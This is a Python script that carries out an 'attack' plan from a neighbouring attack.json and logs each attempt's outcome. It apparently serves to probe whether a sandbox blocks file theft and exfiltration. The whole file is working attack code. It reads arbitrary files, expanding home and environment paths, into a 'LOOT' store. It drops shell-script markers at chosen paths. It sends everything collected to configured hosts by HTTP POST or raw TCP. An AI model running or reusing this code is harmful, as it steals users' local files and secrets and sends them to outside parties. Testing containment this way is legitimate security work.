"""Tries what attack.json beside it lists, and tells what came of each attempt."""
import errno
import json
import os
import re
import socket
import sys
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "attack.json"), encoding="utf-8") as f:
    PLAN = json.load(f)
LOOT = {}


def expand(name):
    return re.sub(r"\$(\w+)", lambda m: os.environ.get(m[1], ""), os.path.expanduser(name))


def read(what):
    with open(expand(what), encoding="utf-8") as f:
        LOOT[what] = f.read()
    return len(LOOT[what].encode())


def write(what):
    file = expand(what)
    os.makedirs(os.path.dirname(file), exist_ok=True)
    with open(file, "w", encoding="utf-8") as f:
        f.write("#!/bin/sh\n# the attack was here\n")


def send(what):
    url = urllib.parse.urlsplit(what)
    body = json.dumps(LOOT).encode()
    if url.scheme == "tcp":
        with socket.create_connection((url.hostname, url.port), 5) as c:
            c.sendall(body)
    else:
        urllib.request.urlopen(urllib.request.Request(what, data=body, method="POST"), timeout=5).close()


def attempt(verb, what, act):
    line = {"do": verb, "what": what}
    try:
        line["bytes"] = act(what)
    except OSError as e:
        cause = getattr(e, "reason", e)
        line["failed"] = errno.errorcode.get(getattr(cause, "errno", None)) or str(e)
    text = json.dumps({k: v for k, v in line.items() if v is not None}) + "\n"
    sys.stderr.write(text)
    try:
        with open(os.path.join(HERE, expand(PLAN["report"])), "a", encoding="utf-8") as f:
            f.write(text)
    except OSError:
        pass


for verb, act in (("read", read), ("write", write), ("send", send)):
    for what in PLAN[verb]:
        attempt(verb, what, act)
